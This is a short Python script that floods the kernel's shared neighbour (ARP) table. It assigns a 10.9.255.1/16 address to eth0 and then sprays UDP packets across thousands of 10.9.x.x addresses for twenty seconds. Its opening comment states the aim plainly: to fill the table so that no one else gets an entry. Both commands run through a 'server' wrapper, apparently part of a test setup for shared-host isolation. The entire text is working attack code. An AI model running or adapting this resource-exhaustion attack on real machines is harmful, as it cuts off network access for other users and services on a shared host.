# Makes the kernel's neighbour table, which is everybody's, so full that nobody else gets an entry.
import subprocess
import sys

FLOOD = """
import socket, time
talk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
end = time.monotonic() + 20
while time.monotonic() < end:
    for low in range(2, 255):
        for third in range(0, 16):
            try:
                talk.sendto(b"x", (f"10.9.{third}.{low}", 9))
            except OSError:
                pass
"""
subprocess.run(["server", "ip", "addr", "add", "10.9.255.1/16", "dev", "eth0"])
subprocess.run(["server", sys.executable, "-c", FLOOD])
